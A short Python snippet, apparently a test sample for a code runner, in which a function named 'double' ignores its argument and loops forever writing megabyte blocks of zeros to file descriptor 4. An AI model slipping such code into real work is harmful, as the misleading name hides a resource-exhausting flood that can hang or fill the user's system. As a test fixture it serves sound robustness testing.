import os


def double(x):
    while True:
        os.write(4, bytes(1 << 20))
